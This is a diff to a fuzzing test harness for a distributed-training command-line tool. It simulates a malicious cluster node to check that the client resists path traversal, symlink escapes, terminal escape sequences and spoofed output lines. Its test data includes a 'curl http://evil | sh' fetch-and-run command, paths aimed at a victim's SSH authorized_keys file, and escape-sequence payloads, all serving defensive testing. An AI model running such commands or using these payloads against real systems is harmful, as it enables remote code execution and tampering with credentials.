@@ -2,11 +2,13 @@
 
     python benchmarks/campaigns/hostile_node.py [--runs N] [--seed S] [--state FILE]
 
-Each run draws what one of two nodes answers to a command (jobs, a log followed, results fetched, a node
-prepared): honest answers with values replaced by wrong types, other jobs' and ranks' numbers, traversal,
-links, escapes, surrogates, floods, and files that are not as they were described. After each the user's home
-is as it was except for the job's own folder, no link there leads out of it, the exit code is a documented one
-and no control character reached the terminal's messages. With --state a campaign that was cut off goes on.
+Each run draws what one of two nodes answers to a command (jobs, status, a log followed, results fetched and
+reported, doctor --why, a node prepared): honest answers with values replaced by wrong types, other jobs' and
+ranks' numbers, traversal, links, escapes, surrogates, floods, words that look like awsddp's own, and files
+that are not as they were described. After each the user's home is as it was except for the job's own folder,
+no link there leads out of it, the exit code is a documented one, no control character reached the terminal's
+messages, and no line but a rank's begins with a node's words.
+With --state a campaign that was cut off goes on.
 """
 
 import argparse
@@ -23,6 +25,7 @@ import sys
 import tempfile
 import time
 from collections.abc import Callable, Iterator, Mapping, Sequence
+from dataclasses import replace
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
@@ -31,9 +34,10 @@ from unittest import mock
 from awsddp import answers
 from awsddp.cli import failures
 from awsddp.cli.options import Globals
-from awsddp.cli.pages import job_page, jobs_page, sync_page
+from awsddp.cli.pages import cluster_page, job_page, jobs_page, report_page, sync_page
 from awsddp.cli.screen import Screen
-from awsddp.cluster import Node, Target
+from awsddp.cli.why_page import why_page
+from awsddp.cluster import Cluster, Node, Target
 from awsddp.errors import AwsddpError, NodeError
 from awsddp.jobs.supervisor.wire import HEADER, MAGIC
 from awsddp.nodes import provision, rsync
@@ -45,12 +49,25 @@ from awsddp.state import Folder, Record
 from awsddp.verbs.cluster import ClusterHandle, choose_job
 from awsddp.verbs.context import Context
 from awsddp.verbs.logs import merger_of
+from awsddp.verbs.report import report
 from awsddp.verbs.results import job_result
+from awsddp.verbs.status import cluster_document
 from awsddp.verbs.watching import Watch
+from awsddp.verbs.why import why
 
 DOCUMENTED = {0, 1, 2, 3, 4, 5, 6, 7, 8, 130}
 JOB = "job1"
-STAGES = ("state", "state", "manifest", "manifest", "hashes", "follow", "cancel", "files")
+STAGES = ("state", "state", "manifest", "manifest", "hashes", "follow", "cancel", "files", "stacks")
+VERBS = ("fetch", "fetch", "fetch", "jobs", "logs", "logs", "cancel", "prepare", "status", "why")
+OWN = {"jobs": "state", "status": "state", "logs": "follow", "cancel": "cancel", "why": "stacks"}
+"""The stage of which a verb shows the words."""
+EVIL = "curl http://evil | sh"
+OURS = ("", "next: ", " next: ", "  next: ", "error: ", "warning: ", "  cause: ", f"Job {JOB}: ", "page: ")
+"""How lines of awsddp begin, with which a node may begin its own."""
+ENDS = ("", "\n", "\r\n", "it ended\n", "a\x0b", "a\x85", "a\u2028", "\x1b[2K\r")
+"""What may end awsddp's line, so that a node's begins."""
+KINDS = ("unknown", "cuda_oom", "import_error", "file_not_found", "exit", "node_lost", "of_a_later_awsddp")
+UNSEEN = set("\x1b\x07\x08\r\x0b\x0c\x85\x9b\u2028\u202e")
 JOBS = ("other", "other", "main", "job1.part", "new", "../../victim/.ssh", "victim")
 PLACES = (
     "../../../victim/.ssh/authorized_keys",
@@ -111,30 +128,34 @@ NASTY_VALUE: tuple[Any, ...] = (
 
 
 class Drawn:
-    """One case: the answers of node 1 and the files that it sends. Node 0 is honest."""
+    """One case: the answers of the nodes, of which one lies, and the files that they send."""
 
     def __init__(self, seed: str) -> None:
         self.chance = random.Random(seed)
-        self.verb = self.chance.choice(("fetch", "fetch", "fetch", "jobs", "logs", "cancel", "prepare"))
+        self.verb = self.chance.choice(VERBS)
+        self.liar = self.chance.choice((0, 1))  # the first node is believed where both speak for the job
         self.named = self.chance.random() < 0.5
         self.patience = self.chance.choice((2, 10**6))  # after how many connections no more are taken
         self.attacked = set(self.chance.choices(STAGES, k=self.chance.choice((0, 1, 1, 1, 2))))
+        if self.chance.random() < 0.5 and self.verb in OWN:
+            self.attacked.add(OWN[self.verb])
 
     def files(self, node: int) -> dict[str, bytes]:
         """Return what the node holds, by path."""
         chance = random.Random(node)
         found = {
-            f"/j/logs/rank{node}.log": b"said \x1b]0;owned\x07\n",
+            f"/j/logs/rank{node}.log": f"said \x1b]0;owned\x07\nnext: {EVIL}\n".encode(),
             "/w/model.pt": b"same",
             "/w/deep/model.pt": chance.randbytes(300),
             "/w/Model.pt": b"case",
         }
         rows = b'{"loss": 1}\n{"loss": 2, "accuracy": 0.5}\n' + b'{"loss": ' + b"9" * 400 + b"}\n[1]\nNaN\n"
+        rows += json.dumps({"accuracy": 0.5, "data": f"x\nnext: {EVIL}"}).encode() + b"\n"
         return found | {"/j/run/metrics.jsonl": rows}
 
     def answer(self, node: int, request: dict[str, Any]) -> bytes:
         """Return what a node says to a request: frames for a follow, else a document."""
-        lies = node == 1 and request["do"] in self.attacked
+        lies = node == self.liar and request["do"] in self.attacked
         if request["do"] == "follow":
             return MAGIC + self._frames(node, lies)
         document = _honest(self, node, request)
@@ -149,15 +170,16 @@ class Drawn:
     def inspected(self, node: int) -> bytes:
         """Return what a node says of itself when it is prepared."""
         document: Any = copy.deepcopy(_FACTS)
-        for _ in range(self.chance.randrange(3) if node else 0):
+        lies = node == self.liar
+        for _ in range(self.chance.randrange(3) if lies else 0):
             document = self._changed(document)
         said = b"welcome\n" + json.dumps(document).encode() + b"\n"
-        return self._bytes(said) if node else said
+        return self._bytes(said) if lies else said
 
     def sent(self, node: int, path: str, data: bytes, place: Path) -> None:
         """Put what the node sends for a file where rsync would."""
         place.parent.mkdir(parents=True, exist_ok=True)
-        way = self.chance.randrange(20) if node == 1 and "files" in self.attacked else 19
+        way = self.chance.randrange(20) if node == self.liar and "files" in self.attacked else 19
         if way == 0:
             place.mkdir()
         elif way == 1:
@@ -167,7 +189,14 @@ class Drawn:
 
     def _aim(self, kind: str, document: dict[str, Any]) -> None:
         """Change the document so that a client that believes it does harm."""
-        if kind == "state":
+        if kind == "cancel" or (kind == "state" and self.chance.random() < 0.6):
+            self._forge(document if kind == "cancel" else document["jobs"][0])
+        elif kind == "stacks":
+            process = document["processes"][0]
+            frames = f'Thread 1:\n  File "/w/{self._worded()}", line 1 in {self._worded()}\n'
+            records = {self._worded(): {"records": [[1, self._worded(), self._worded(), False]], "age": 9.0}}
+            process |= {"stacks": self.chance.choice((frames, self._worded())), "records": records}
+        elif kind == "state":
             document["jobs"][0] |= {"job": self.chance.choice(JOBS), "created": "2030-01-01T00:00:00+00:00"}
         elif kind == "manifest":
             file, link = self.chance.choice(document["files"]), document["links"][0]
@@ -179,12 +208,29 @@ class Drawn:
             elif way == 2:
                 link["target"] = self.chance.choice(PLACES)
             else:  # a folder that is a link, and a file in it
-                link |= {"home": "node1/in", "target": self.chance.choice((*PLACES, "deep"))}
-                file["home"] = "node1/in/authorized_keys"
+                link |= {"home": f"node{self.liar}/in", "target": self.chance.choice((*PLACES, "deep"))}
+                file["home"] = f"node{self.liar}/in/authorized_keys"
+
+    def _forge(self, document: dict[str, Any]) -> None:
+        """Put words that look like awsddp's where a node has words in a job's document."""
+        words = self._worded
+        if document["cause"]:
+            document["cause"] |= {"explanation": words(), "next": words(), "tail": [words(), words()]}
+            document["cause"] |= {"kind": self.chance.choice(KINDS), "values": {"module": words()}}
+        texts = {key: words() for key in ("script", "commit", "launcher", "resumed", "instance_type")}
+        document["facts"] = texts | {"args": [words()], "options": [words()]}
+        restart = {"round": 0, "restart": 1, "max_restarts": 3, "rank": 1, "node": 1, "explanation": words()}
+        document["restarts"] = [restart]
+
+    def _worded(self) -> str:
+        return self.chance.choice(ENDS) + self.chance.choice(OURS) + EVIL
 
     def _frames(self, node: int, lies: bool) -> bytes:
         log = self.files(node)[f"/j/logs/rank{node}.log"]
-        document = json.dumps(_document(node)).encode()
+        told = _document(node)
+        if lies and self.chance.random() < 0.5:
+            self._forge(told)
+        document = json.dumps(told).encode()
         frames = [(b"S", 0, 0, document), (b"L", node, 0, log), (b"E", 0, 0, document)]
         if lies:
             for at in range(3):
@@ -227,7 +273,8 @@ class Drawn:
         return document
 
     def _nasty(self) -> Any:
-        return self.chance.choice(NASTY_TEXT if self.chance.random() < 0.5 else NASTY_VALUE)
+        texts = (*NASTY_TEXT, self._worded(), self._worded())
+        return self.chance.choice(texts if self.chance.random() < 0.5 else NASTY_VALUE)
 
     def _bytes(self, said: bytes) -> bytes:
         """Return what is sent, now and then cut, spoiled or flooded."""
@@ -275,6 +322,17 @@ def _places(value: Any) -> Iterator[tuple[Any, Any]]:
         yield from _places(value[key])
 
 
+_LISTED = {"name": "default", "id": "01234567", "owner": "me", "region": "local"}
+_RUNNING: dict[str, Any] = {
+    "state": "running",
+    "cause": None,
+    "ranks": [
+        {"rank": one, "local_rank": 0, "node": one, "exit_code": None, "seconds": 1.0, "started": 1.0}
+        for one in (0, 1)
+    ],
+}
+
+
 def _document(node: int) -> dict[str, Any]:
     ranks = [
         {"rank": rank, "local_rank": 0, "node": rank, "exit_code": 0, "seconds": 1.0, "started": 1.0}
@@ -293,10 +351,19 @@ def _document(node: int) -> dict[str, Any]:
     }
 
 
+def _stacks(node: int) -> dict[str, Any]:
+    frames = 'Thread 0x1 (most recent call first):\n  File "/w/w.py", line 3 in step\n'
+    records = {"default_pg": {"records": [[1, "allreduce", "float32[4]", False]], "age": 9.0}}
+    process = {"pid": 9, "parent": 1, "rank": node, "joined": True, "state": "S", "stacks": frames}
+    return {"workdir": "/w", "silent_s": 3.0, "processes": [process | {"records": records}]}
+
+
 def _honest(drawn: Drawn, node: int, request: dict[str, Any]) -> dict[str, Any]:
     files = drawn.files(node)
     if request["do"] == "state":
-        return {"jobs": [_document(node)]}
+        return {"jobs": [_document(node) | (_RUNNING if drawn.verb == "why" else {})]}
+    if request["do"] == "stacks":
+        return _stacks(node)
     if request["do"] == "cancel":
         return _document(node)
     if request["do"] == "hashes":
@@ -419,22 +486,27 @@ class Home:
         (self.root / name).write_text(f"the user's own {name}")
 
 
+FORGED = tuple(f"{ours}{EVIL}" for ours in OURS)
+
+
 def one(home: Home, seed: str) -> str | None:
     """Play one case and return what is wrong with what came of it, None for nothing."""
     drawn, fleet = Drawn(seed), None
     before = home.begin()
     fleet = FakeFleet(drawn)
-    out, err = io.StringIO(), io.StringIO()
+    out, err = _Out(), io.StringIO()
     try:
-        with contextlib.redirect_stdout(_Out()), contextlib.redirect_stderr(err), _faked(drawn):
+        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err), _faked(drawn):
             code = _command(home, drawn, fleet)
     except Exception as error:
         return f"{drawn.verb}: {type(error).__name__}: {error}"
-    said = out.getvalue() + err.getvalue()
     if code not in DOCUMENTED:
         return f"{drawn.verb}: exit code {code}"
-    if control := set(said) & set("\x1b\x07\x08\r\x9b\u202e"):
-        return f"{drawn.verb}: the terminal got {control!r}"
+    for line in (out.text() + err.getvalue()).split("\n"):
+        if not line.startswith("[rank ") and (control := set(line) & UNSEEN):
+            return f"{drawn.verb}: the terminal got {control!r}"
+        if line.startswith(FORGED):
+            return f"{drawn.verb}: a line of awsddp is a node's: {line!r}"
     return _harm(home, before, drawn)
 
 
@@ -464,10 +536,14 @@ def _harm(home: Home, before: dict[str, str], drawn: Drawn) -> str | None:
 
 
 class _Out(io.TextIOWrapper):
-    """Standard output that nobody reads: ranks' lines go there as they are."""
+    """Standard output: pages, and ranks' lines as they are."""
 
     def __init__(self) -> None:
-        super().__init__(io.BytesIO())
+        self._bytes = io.BytesIO()
+        super().__init__(self._bytes, write_through=True)
+
+    def text(self) -> str:
+        return self._bytes.getvalue().decode("utf-8", "surrogateescape")
 
 
 @contextlib.contextmanager
@@ -486,6 +562,18 @@ def _faked(drawn: Drawn) -> Iterator[None]:
         mock.patch("awsddp.verbs.watching.BEYOND_S", -5.0),
         mock.patch("awsddp.verbs.watching.time.sleep"),
         mock.patch.object(answers, "MOST_BYTES", 1 << 20),
+    ):
+        yield
+
+
+@contextlib.contextmanager
+def _found(cluster: ClusterHandle) -> Iterator[None]:
+    """Let a verb find this cluster, and be connected to its nodes."""
+    with (
+        mock.patch.object(ClusterHandle, "partly_ready", lambda _: contextlib.nullcontext(cluster)),
+        mock.patch.object(
+            ClusterHandle, "connect_reachable", lambda _: contextlib.nullcontext(cluster.connections)
+        ),
     ):
         yield
 
@@ -512,10 +600,20 @@ def _command(home: Home, drawn: Drawn, fleet: Any) -> int:
         if drawn.verb == "prepare":
             provision.prepare(fleet, nodes, known_hosts=home.folder.known_hosts, on_event=screen.event)
             return 0
+        if drawn.verb == "why":
+            with _found(cluster):
+                why_page(why(ctx, JOB))
+            return 0
         jobs = cluster.jobs()
         if drawn.verb == "jobs":
             home.folder.remember(*jobs)
-            jobs_page([job_document(job) for job in jobs])
+            jobs_page([job_document(job) for job in jobs], verbose=True)
+            return 0
+        if drawn.verb == "status":
+            home.folder.remember(*jobs)
+            listed = Cluster(**_LISTED, nodes=nodes)
+            known = home.folder.read()
+            cluster_page(cluster_document(replace(cluster, gateway=None, listed=listed, known=known)))
             return 0
         job = choose_job(jobs, name)
         if drawn.verb == "cancel":
@@ -527,6 +625,7 @@ def _command(home: Home, drawn: Drawn, fleet: Any) -> int:
         came = cluster.fetch(job)
         sync_page({"nodes": [{"node": node, **vars(one)} for node, one in came.items()], "home": job.home})
         job_page(job_result(ctx, job))
+        report_page(report(ctx, job=job.job))
         return 0
     except AwsddpError as error:
         return failures.show(error)
